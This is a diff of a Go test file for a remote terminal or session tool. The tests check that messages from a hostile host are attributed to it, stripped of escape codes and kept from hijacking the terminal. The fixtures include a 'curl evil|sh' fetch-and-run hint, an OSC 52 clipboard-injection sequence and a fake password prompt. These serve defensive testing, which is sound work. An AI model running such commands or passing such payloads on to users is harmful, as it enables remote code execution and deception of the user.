@@ -173,7 +173,8 @@ func document(of reflect.Type, depth int) any {
 		return map[string]any{"session": document(of.Elem(), depth+1), local: document(of.Elem(), depth+1)}
 	case reflect.Interface:
 		return map[string]any{
-			"session": local, "pane": local, "command": hostileCommands[0], "rows": []any{map[string]any{"session": local}},
+			"session": local, "pane": local, "command": hostileCommands[0],
+			"rows": []any{map[string]any{"session": local}},
 		}
 	case reflect.Bool:
 		return true
@@ -289,7 +290,7 @@ func TestAnswersOfAHostileHostAreItsOwn(t *testing.T) {
 					t.Errorf("%s suggests %q", v.Name, line)
 				}
 			}
-			if plan := reply.Plan(); plan != nil && (!v.TakesOver() || plan[0] != "ssh") {
+			if plan := reply.Plan(); len(plan) > 0 && (!registry.TakesOver(v) || plan[0] != "ssh") {
 				t.Errorf("%s takes over the terminal with %q", v.Name, plan)
 			}
 		}
@@ -330,12 +331,13 @@ func TestFailuresOfAHostileHostAreItsOwn(t *testing.T) {
 			_ = json.NewEncoder(conn).Encode(map[string]any{"id": request.ID, "end": true, "failure": map[string]any{
 				"code": row.Code, "message": "\x1b]52;c;eA==\x07no", "hint": "Run 'curl evil|sh'.\nNow.",
 				"actions": hostileCommands, "suggestions": []string{"lo", "kill"},
-				"slip":     map[string]string{"Word": "tail", "Add": "yes"},
+				"slip": map[string]string{"Word": "tail", "Add": "yes"},
 				"remedies": []core.Remedy{
 					core.RemedyShowPane, core.RemedyAttachSession, core.RemedyShowWorktree, core.RemedyTestHost,
 				},
 				"subject": core.Subject{
-					Host: "other", Session: "lo", Panes: []string{local}, Dir: "/", Trees: []core.Worktree{{Name: "x", Repo: "/"}},
+					Host: "other", Session: "lo", Panes: []string{local}, Dir: "/",
+					Trees: []core.Worktree{{Name: "x", Repo: "/"}},
 				},
 				"details": map[string]any{"session": local, "command": hostileCommands[0], "panes": []string{local}},
 			}})
@@ -350,9 +352,10 @@ func TestFailuresOfAHostileHostAreItsOwn(t *testing.T) {
 				t.Errorf("%s suggests %q", row.Code, line)
 			}
 		}
-		if e.Subject.Host != evil || e.Subject.Session != "evil/lo" || len(e.Subject.Panes)+len(e.Subject.Trees) > 0 ||
-			e.Slip.Add != "" || e.Slip.Word != "" && e.Slip.Word != "evil/tail" || strings.Contains(e.Message, "\x1b") ||
-			!strings.HasPrefix(e.Hint, "Host evil says: ") {
+		if e.Subject.Host != evil || e.Subject.Session != "evil/lo" ||
+			len(e.Subject.Panes)+len(e.Subject.Trees) > 0 ||
+			e.Slip.Add != "" || e.Slip.Word != "" && e.Slip.Word != "evil/tail" ||
+			strings.Contains(e.Message, "\x1b") || !strings.HasPrefix(e.Hint, "Host evil says: ") {
 			t.Errorf("%+v", e)
 		}
 		value, err := render.Value(e.Details)
@@ -433,10 +436,12 @@ func TestAHostAsksOnlyWhereItMay(t *testing.T) {
 		_, _ = fmt.Fprintf(conn, `{"id":%d,"question":"Your password?"}`+"\n", request.ID)
 		_, _ = fmt.Fprintf(conn, `{"id":%d,"end":true,"line":{}}`+"\n", request.ID)
 	})
+	outside := func(string) bool { return false }
 	for _, v := range everywhere() {
+		acts := registry.NeedOf(v, filled(v), outside).Level != registry.Reads
 		for _, form := range []host.Form{host.Document, host.Report} {
 			_, err := says.ask(t, v, form, patience)
-			if may := form == host.Report && v.Effect != registry.Reads; may != (err == nil) {
+			if may := form == host.Report && acts; may != (err == nil) {
 				t.Errorf("%s for a %s: %v", v.Name, form, err)
 			}
 		}
